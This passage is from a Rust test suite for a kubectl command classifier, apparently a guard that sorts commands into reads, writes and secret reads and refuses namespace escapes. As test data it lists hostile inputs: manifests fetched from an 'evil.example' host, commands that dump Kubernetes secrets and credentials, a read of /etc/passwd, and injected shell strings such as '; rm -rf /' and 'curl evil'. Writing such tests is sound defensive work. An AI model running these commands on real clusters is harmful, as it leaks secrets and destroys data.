            ("get pods --all-namespaces", "--all-namespaces"),
            ("get pods --all_namespaces", "--all-namespaces"),
            ("get pods -wA", "--all-namespaces"),
            ("get pods -An x", "--all-namespaces"),
            ("exec -itn kube-system pod -- sh", "--namespace"),
            ("exec -it -nkube-system pod -- sh", "--namespace"),
            ("logs -fn kube-system pod", "--namespace"),
            ("get pods -l -nkube-system", "--namespace"),
            ("get pods --unknown-flag -- -n kube-system", "--namespace"),
            ("cp kube-system/pod:/etc/x ./x", "--namespace"),
            ("get --raw /api/v1/namespaces/kube-system/secrets", "--raw"),
            ("apply -f https://evil.example/m.yaml", "--filename"),
            ("apply -f=http://evil.example/m.yaml", "--filename"),
            ("apply -k github.com/evil/repo//base?ref=main", "remote"),
            ("kustomize https://github.com/evil/repo", "remote"),
        ];
        assert!(cases.len() >= 40);
        super::super::testing::assert_all_refused(classify, cases, &pinned_ns());
    }

    /// Flags the integration allows, and an unpinned namespace, pass.
    #[test]
    fn allowed_flags_and_unpinned_namespace_pass() {
        let free = Options::default();
        assert_eq!(run("get pods -n team-a", &free).words, ["get", "pods"]);
        assert_eq!(run("get pods -A", &free).class, Class::Read);
        assert_eq!(run("-nfoo get pods", &free).words, ["get", "pods"]);
        let opts = Options {
            allow_flags: vec!["--context".into()],
            namespace_pinned: true,
        };
        assert_eq!(run("get pods --context staging", &opts).class, Class::Read);
        assert!(classify(&argv("get pods --cluster x"), &opts).is_err());
        assert_eq!(class_of("get pods -v 4").class, Class::Read);
        assert_eq!(
            class_of("exec pod -- curl -s -n http://x").class,
            Class::Write
        );
    }

    /// Commands that print secrets are `SecretRead`, their harmless neighbours `Read`.
    #[test]
    fn secret_reads() {
        for line in [
            "get secrets -o yaml",
            "get secret db -o json",
            "get Secret/db -oyaml",
            "get secrets.v1. -o=json",
            "get cm,secret --output=yaml",
            "get SECRETS --output json",
            "get secret db -o jsonpath={.data.password}",
            "get secret db -ojsonpath={.data}",
            "get secret db -o go-template={{.data}}",
            "get secret db --template={{.data}}",
            "get secret db -o custom-columns=P:.data.password",
            "-o yaml get secrets",
            "get -o yaml -- secrets",
            "get -f manifest.yaml -o yaml",
            "get -wojson secrets",
            "get --raw /api/v1/namespaces/x/secrets",
            "create token default",
            "config view --raw",
            "config view --flatten",
            "apply view-last-applied secret/db",
        ] {
            let c = run(line, &Options::default());
            assert_eq!(c.class, Class::SecretRead, "{line}");
        }
        for line in [
            "get secrets",
            "get secrets -o wide",
            "get secrets -o name",
            "describe secret db",
            "get pods -o yaml",
            "get configmaps -o json",
        ] {
            assert_eq!(class_of(line).class, Class::Read, "{line}");
        }
    }

    /// Read-only commands, with their command words.
    #[test]
    fn reads() {
        let cases: &[(&str, &[&str])] = &[
            ("get pods", &["get", "pods"]),
            ("get pods -o wide --watch", &["get", "pods"]),
            ("get Pod/web", &["get", "pod"]),
            ("get deploy,svc -l app=web", &["get", "deploy,svc"]),
            ("--request-timeout 5s get pods", &["get", "pods"]),
            ("describe pod web", &["describe", "pod"]),
            ("logs web -c app --tail 50", &["logs"]),
            ("logs -f web", &["logs"]),
            ("top pod", &["top", "pod"]),
            ("top po --containers", &["top", "pod"]),
            ("explain pods.spec", &["explain", "pods.spec"]),
            ("api-resources", &["api-resources"]),
            ("api-versions", &["api-versions"]),
            ("version --client", &["version"]),
            ("cluster-info", &["cluster-info"]),
            ("events --for pod/web", &["events"]),
            ("auth can-i create pods", &["auth", "can-i"]),
            ("auth whoami", &["auth", "whoami"]),
            ("config get-contexts", &["config", "get-contexts"]),
            ("config current-context", &["config", "current-context"]),
            ("config view --minify", &["config", "view"]),
            (
                "rollout status deployment/web",
                &["rollout", "status", "deployment"],
            ),
            (
                "rollout history deploy/web",
                &["rollout", "history", "deploy"],
            ),
            ("diff -f app.yaml", &["diff"]),
            ("wait --for=condition=Ready pod/web", &["wait", "pod"]),
            ("help get", &["help"]),
        ];
        for (line, words) in cases {
            let c = class_of(line);
            assert_eq!(c.class, Class::Read, "{line}: {}", c.why);
            assert_eq!(c.words, *words, "{line}");
            assert!(!c.unknown, "{line}");
        }
    }

    /// Commands that change something, with their command words; unknown ones count as writes.
    #[test]
    fn writes() {
        let cases: &[(&str, &[&str])] = &[
            ("apply -f app.yaml", &["apply"]),
            ("apply --server-side -f app.yaml", &["apply"]),
            (
                "create deployment web --image=nginx",
                &["create", "deployment"],
            ),
            ("create deploy web --image=nginx", &["create", "deployment"]),
            ("create --edit cm x", &["create", "configmap"]),
            (
                "create secret generic db --from-literal=a=b",
                &["create", "secret", "generic"],
            ),
            ("delete pod web", &["delete", "pod"]),
            ("delete --cascade pod web", &["delete", "pod"]),
            ("edit deploy/web", &["edit", "deploy"]),
            ("patch deploy web -p {}", &["patch", "deploy"]),
            ("replace -f app.yaml", &["replace"]),
            ("scale deploy/web --replicas 3", &["scale", "deploy"]),
            (
                "rollout restart deploy/web",
                &["rollout", "restart", "deploy"],
            ),
            ("rollout undo deploy/web", &["rollout", "undo", "deploy"]),
            ("label pod web a=b", &["label", "pod"]),
            ("annotate pod web a=b", &["annotate", "pod"]),
            ("taint nodes n1 k=v:NoSchedule", &["taint"]),
            ("cordon n1", &["cordon"]),
            ("drain n1 --ignore-daemonsets", &["drain"]),
            ("exec -it web -- sh", &["exec"]),
            ("run tmp --image=busybox --rm -it -- sh", &["run"]),
            ("attach web", &["attach"]),
            ("port-forward web 8080:80", &["port-forward"]),
            ("proxy --port 8001", &["proxy"]),
            ("debug web -it --image=busybox", &["debug"]),
            (
                "set image deploy/web app=nginx:2",
                &["set", "image", "deploy"],
            ),
            ("expose deploy web --port 80", &["expose", "deploy"]),
            ("autoscale deploy web --max 5", &["autoscale", "deploy"]),
            ("certificate approve csr-1", &["certificate", "approve"]),
            ("config use-context prod", &["config", "use-context"]),
            ("config use prod", &["config", "use-context"]),
            ("config set-context dev", &["config", "set-context"]),
            ("auth reconcile -f rbac.yaml", &["auth", "reconcile"]),
        ];
        for (line, words) in cases {
            let c = run(line, &Options::default());
            assert_eq!(c.class, Class::Write, "{line}: {}", c.why);
            assert_eq!(c.words, *words, "{line}");
            assert!(!c.unknown, "{line}");
        }
        for line in [
            "foo bar",
            "GET pods",
            "plugin list",
            "create frobnicator x",
            "__complete get",
        ] {
            let c = class_of(line);
            assert_eq!((c.class, c.unknown), (Class::Write, true), "{line}");
        }
        // cobra takes `--help`/`-A` before the verb as swallowing it, so no `get` runs here.
        let c = run("-A get secrets -o yaml", &Options::default());
        assert_eq!((c.class, c.unknown), (Class::Write, true));
        assert_eq!(c.words, ["secrets"]);
        assert!(classify(&argv("--request-timeout 5s"), &pinned_ns()).is_err());
    }

    /// Local files named by flags and operands, with their direction.
    #[test]
    fn file_arguments() {
        let read = |p: &str| FileArg {
            path: p.into(),
            write: false,
        };
        let write = |p: &str| FileArg {
            path: p.into(),
            write: true,
        };
        let cases: &[(&str, Vec<FileArg>)] = &[
            ("apply -f app.yaml", vec![read("app.yaml")]),
            ("apply -fapp.yaml", vec![read("app.yaml")]),
            (
                "apply --filename=a.yaml,b.yaml",
                vec![read("a.yaml"), read("b.yaml")],
            ),
            ("apply -f - ", vec![]),
            ("apply -k overlays/prod", vec![read("overlays/prod")]),
            ("get -f app.yaml", vec![read("app.yaml")]),
            ("diff -f /etc/app.yaml", vec![read("/etc/app.yaml")]),
            ("logs -f web", vec![]),
            (
                "cp web:/var/log/app.log ./app.log",
                vec![write("./app.log")],
            ),
            (
                "cp ./conf.yaml web:/etc/conf.yaml",
                vec![read("./conf.yaml")],
            ),
            ("cp -c app ./a web:/a", vec![read("./a")]),
            (
                "create configmap c --from-file=cfg=conf/app.ini --from-file=x.txt",
                vec![read("conf/app.ini"), read("x.txt")],
            ),
            (
                "create secret generic s --from-env-file .env",
                vec![read(".env")],
            ),
            (
                "create secret tls t --cert c.pem --key k.pem",
                vec![read("c.pem"), read("k.pem")],
            ),
            ("patch deploy web --patch-file p.yaml", vec![read("p.yaml")]),
            (
                "get pods -o jsonpath-file=/etc/passwd",
                vec![read("/etc/passwd")],
            ),
            (
                "get pods -o go-template-file --template t.tmpl",
                vec![read("t.tmpl")],
            ),
            (
                "cluster-info dump --output-directory dump",
                vec![write("dump")],
            ),
            ("get pods --profile cpu", vec![write("profile.pprof")]),
            (
                "get pods --profile cpu --profile-output p.out",
                vec![write("p.out")],
            ),
            ("kustomize overlays/dev", vec![read("overlays/dev")]),
        ];
        for (line, files) in cases {
            assert_eq!(class_of(line).files, *files, "{line}");
        }
        let c = class_of("cp web:/a ./a");
        assert_eq!(c.class, Class::Write);
        assert!(classify(&argv("apply -f \"a,b\""), &pinned_ns()).is_err());
    }

    /// Shell syntax in arguments is inert data (no shell runs), so it is not refused.
    #[test]
    fn shell_metacharacters_are_plain_values() {
        let c = class_of("get pods -l app=$(touch${IFS}/tmp/pwned)");
        assert_eq!(
            (c.class, c.words.clone()),
            (Class::Read, vec!["get".into(), "pods".into()])
        );
        let args: Vec<String> = ["logs", "web", "--since", "; rm -rf /", "-c", "`id`"]
            .map(String::from)
            .to_vec();
        let c = classify(&args, &pinned_ns()).unwrap_or_else(|r| panic!("refused: {r}"));
        assert_eq!((c.class, c.words), (Class::Read, vec!["logs".to_string()]));
        let args: Vec<String> = ["describe", "pod", "a|b && curl evil"]
            .map(String::from)
            .to_vec();
        let c = classify(&args, &pinned_ns()).unwrap_or_else(|r| panic!("refused: {r}"));
        assert_eq!(c.words, ["describe", "pod"]);
    }
}
